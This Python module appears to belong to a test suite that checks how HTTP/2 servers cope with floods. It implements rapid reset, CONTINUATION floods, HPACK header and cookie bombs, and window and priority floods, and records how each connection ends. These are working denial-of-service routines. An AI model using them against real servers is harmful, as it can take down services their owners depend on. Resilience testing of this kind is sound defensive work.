"""Floods. Each function plays one connection of an attacker to its end and tells how it
ended: the error code of GOAWAY, `closed` without one, or what else became of it."""

from __future__ import annotations

import time
from typing import Callable

from . import fields, frames
from .frames import CONTINUATION, HEADERS, raw
from .peer import Ended, Peer
from .rows import Target

#: Seconds after which a flood that nobody has ended is over.
PATIENCE = 5.0


def flood(peer: Peer, batch: Callable[[int], bytes], reading: bool = True) -> str:
    """Sends batches until the server ends the connection."""
    end = time.monotonic() + PATIENCE
    count = 0
    while time.monotonic() < end:
        try:
            sent = peer.send(batch(count))
        except TimeoutError:
            return "not read any more"
        if not sent:
            break
        count += 1
        if reading and _drain(peer):
            break
    else:
        return "endured"
    goaway = peer.closed()
    return goaway.code if goaway else "closed"


def _drain(peer: Peer) -> bool:
    """Takes what the server has said so far; whether it has ended the connection."""
    try:
        peer.until(lambda: False, deadline=0)
    except Ended:
        return True
    except AssertionError:
        pass
    return peer.goaway is not None


def odd(count: int, size: int) -> range:
    """Numbers of the streams of batch `count`."""
    return range(1 + 2 * count * size, 1 + 2 * (count + 1) * size, 2)


# --- streams that are given up ---


def rapid_reset(target: Target, code: int = frames.CANCEL) -> str:
    block = fields.block(target.fields())
    with Peer(target.port) as peer:
        return flood(
            peer, lambda n: b"".join(frames.headers(one, block) + frames.reset(one, code) for one in odd(n, 200))
        )


def rapid_reset_without_error(target: Target) -> str:
    return rapid_reset(target, 0)


def whole_requests_reset(target: Target) -> str:
    with Peer(target.port) as peer:
        return flood(peer, lambda n: b"".join(target.whole(one) + frames.reset(one) for one in odd(n, 200)))


def resets_made_by_the_server(target: Target) -> str:
    """Requests that are malformed: the server resets them, and the client pays nothing."""
    bad = fields.block(target.fields((b"connection", b"close")))
    with Peer(target.port) as peer:
        return flood(peer, lambda n: b"".join(frames.headers(one, bad) for one in odd(n, 200)))


def resets_made_by_windows(target: Target) -> str:
    block = fields.block(target.fields())
    much = frames.LARGEST_WINDOW
    with Peer(target.port) as peer:
        return flood(
            peer,
            lambda n: b"".join(frames.headers(one, block) + frames.window_update(one, much) for one in odd(n, 200)),
        )


def resets_of_a_closed_stream(target: Target) -> str:
    with Peer(target.port) as peer:
        peer.send(target.open(1))
        return flood(peer, lambda n: frames.reset(1) * 1000)


def headers_of_a_closed_stream(target: Target) -> str:
    block = fields.block([(b"x", b"y")])
    with Peer(target.port) as peer:
        peer.send(target.open(1) + frames.reset(1))
        return flood(peer, lambda n: frames.headers(1, block, end=True) * 500)


# --- header blocks ---


def continuations(target: Target, payload: bytes = b"") -> str:
    with Peer(target.port) as peer:
        peer.send(raw(HEADERS, 0, 1, fields.block(target.fields())))
        return flood(peer, lambda n: raw(CONTINUATION, 0, 1, payload) * (500 if len(payload) < 100 else 10))


def continuations_of_a_byte(target: Target) -> str:
    return continuations(target, fields.literal(b"x", b"y"))


def large_continuations(target: Target) -> str:
    return continuations(target, fields.literal(b"x", b"v" * 16000))


def header_bomb(target: Target) -> str:
    """Each byte of a block is a field of 4 KB, out of the decoder's table."""
    return bombs(target, fields.added(b"x-a", b"v" * 4000))


def cookie_bomb(target: Target) -> str:
    """Each byte of a block is a field of almost no size: there are too many of them."""
    return bombs(target, fields.added(b"cookie", b""))


def bombs(target: Target, seed: bytes) -> str:
    head = fields.block(target.fields())
    # Literals of the target do not move the seed from the first place of the table.
    block = head + fields.indexed(fields.STATIC + 1) * (frames.FRAME_SIZE - len(head))
    with Peer(target.port) as peer:
        peer.send(frames.headers(1, head + seed, end=True))
        return flood(peer, lambda n: frames.headers(3 + 2 * n, block, end=True))


def table_size_updates(target: Target) -> str:
    """Each block empties the decoder's table and fills it again."""
    head = (fields.table_size(0) + fields.table_size(4096)) + fields.block(target.fields())
    block = head + b"".join(fields.added(b"x-%d" % n, b"v" * 50) for n in range(40))
    with Peer(target.port) as peer:
        return flood(
            peer, lambda n: b"".join(frames.headers(one, block) + frames.reset(one) for one in odd(n, 50))
        )


# --- frames that move nothing ---


def of(frame: bytes, times: int = 1000, before: Callable[[Target], bytes] = lambda t: b"", reading: bool = True):
    def play(target: Target) -> str:
        with Peer(target.port, polite=False) as peer:
            peer.send(before(target))
            batch = frame * times
            return flood(peer, lambda n: batch, reading)

    return play


def priorities_of_new_streams(target: Target) -> str:
    """A server that keeps a tree of priorities would grow."""
    with Peer(target.port) as peer:
        return flood(peer, lambda n: b"".join(frames.priority(one, one + 2) for one in odd(n, 500)))


def windows_of_a_byte(target: Target) -> str:
    """Opens the window of a stream with much to send by a byte at a time."""
    with Peer(target.port, settings={frames.INITIAL_WINDOW_SIZE: 0}) as peer:
        peer.send(target.whole(1))
        return flood(peer, lambda n: frames.window_update(1, 1) * 500)
